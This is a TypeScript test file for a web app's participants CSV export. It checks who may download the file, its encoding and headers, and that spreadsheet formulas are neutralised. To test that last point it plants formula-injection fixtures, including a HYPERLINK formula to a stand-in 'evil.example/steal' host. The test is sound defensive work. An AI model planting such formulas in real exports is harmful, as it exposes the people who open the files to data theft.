// The participants CSV through its real route, with real session cookies: who gets it, who gets
// the 404 an unknown activity gets, what each one's file holds, and that text a spreadsheet would
// run as a formula comes back as text when read with a CSV parser.
import { parse } from "csv-parse/sync";
import { describe, expect, it, vi } from "vitest";
import { testDb } from "../support/db";
import { createUser } from "../support/factories";
import { createJointWorkshop, callerFor, delegate, noAnswers } from "../support/registration";
import { callRoute } from "../support/route-request";
import { sessionCookie } from "../support/session-cookie";

const { APP_URL, SECRET } = vi.hoisted(() => {
  const env = { APP_URL: "http://localhost:3000", SECRET: "a test secret that is long enough for next-auth" };
  process.env.NEXTAUTH_URL = env.APP_URL;
  process.env.NEXTAUTH_SECRET = env.SECRET;
  return env;
});

const { GET } = await import("~/app/api/registrations/[activityId]/participants.csv/route");

type TUser = Awaited<ReturnType<typeof createUser>>;

async function download(activityId: string, user: TUser | null, search = "") {
  const headers: Record<string, string> = {};
  if (user) {
    const row = await testDb().user.findUniqueOrThrow({ where: { id: user.id } });
    headers.cookie = await sessionCookie(row, SECRET);
  }
  const request = new Request(`${APP_URL}/api/registrations/${activityId}/participants.csv${search}`, {
    headers,
  });
  const response = await callRoute(GET, request, { activityId });
  // Decoded keeping the byte-order mark, which response.text() would drop.
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  const rows: string[][] = response.status === 200 ? parse(text, { bom: true }) : [];
  return { response, text, rows };
}

const FORMULA = '=HYPERLINK("https://evil.example/steal","Open")';

async function scene(visibility: "PUBLIC" | "HOSTS" = "PUBLIC") {
  const workshop = await createJointWorkshop({ capacity: 5, visibility });
  const hostNominee = { ...delegate(), name: FORMULA };
  await callerFor(workshop.editorA).registration.registerOnBehalf({
    activityId: workshop.activity.id,
    rcpId: workshop.hostA.id,
    person: hostNominee,
    answers: { ...noAnswers, organisation: "+SUM(1,2)", comment: "@cmd" },
  });
  const otherNominee = delegate();
  if (visibility === "PUBLIC") {
    await callerFor(workshop.otherEditor).registration.registerOnBehalf({
      activityId: workshop.activity.id,
      rcpId: workshop.other.id,
      person: otherNominee,
      answers: noAnswers,
    });
  }
  const [admin, loner] = await Promise.all([createUser({ platformRole: "ADMIN" }), createUser()]);
  return { ...workshop, hostNominee, otherNominee, admin, loner };
}

describe("participants CSV", () => {
  it("gives hosts every participant, another secretariat's editors their own nominees, everyone else a 404", async () => {
    const s = await scene();
    const emailsOf = async (user: TUser | null) => {
      const { response, rows } = await download(s.activity.id, user);
      return response.status === 200
        ? rows
            .slice(1)
            .map((row) => row[1])
            .sort()
        : response.status;
    };
    const everyone = [s.hostNominee.email, s.otherNominee.email].sort();
    expect(await emailsOf(s.editorA)).toEqual(everyone);
    expect(await emailsOf(s.editorB)).toEqual(everyone);
    expect(await emailsOf(s.viewerA)).toEqual(everyone);
    expect(await emailsOf(s.admin)).toEqual(everyone);
    expect(await emailsOf(s.otherEditor)).toEqual([s.otherNominee.email]);
    expect(await emailsOf(s.otherViewer)).toBe(404);
    expect(await emailsOf(s.loner)).toBe(404);
    expect(await emailsOf(null)).toBe(404);
  });

  it("is a 404 to another secretariat's editor when the activity is for its hosts only", async () => {
    const s = await scene("HOSTS");
    expect((await download(s.activity.id, s.otherEditor)).response.status).toBe(404);
    expect((await download(s.activity.id, s.editorB)).response.status).toBe(200);
  });

  it("neutralises formulas, is UTF-8 with a BOM, an attachment, and never stored by caches", async () => {
    const s = await scene();
    const { response, text, rows } = await download(s.activity.id, s.editorA, "?locale=fr&rcp=" + s.hostA.id);
    expect(response.status).toBe(200);
    expect(text.startsWith("\uFEFF")).toBe(true);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="participants-/);
    expect(response.headers.get("cache-control")).toContain("no-store");
    expect(rows[0]?.slice(0, 3)).toEqual(["Nom", "Adresse électronique", "Statut"]);
    expect(rows).toHaveLength(2);
    const row = rows[1]!;
    expect(row[0]).toBe(`'${FORMULA}`);
    expect(row[2]).toBe("Confirmée");
    expect(row[3]).toBe("'+SUM(1,2)");
    expect(row[8]).toBe("'@cmd");
  });

  it("filters by status, and refuses values no link makes without reading anything", async () => {
    const s = await scene();
    expect((await download(s.activity.id, s.editorA, "?status=WAITLISTED")).rows).toHaveLength(1);
    expect((await download(s.activity.id, s.editorA, "?status=ALL")).response.status).toBe(400);
    expect((await download(s.activity.id, s.editorA, "?locale=de")).response.status).toBe(400);
    expect((await download(s.activity.id, s.editorA, "?rcp=x%27")).response.status).toBe(400);
    expect((await download("not an id!", s.editorA)).response.status).toBe(404);
  });
});
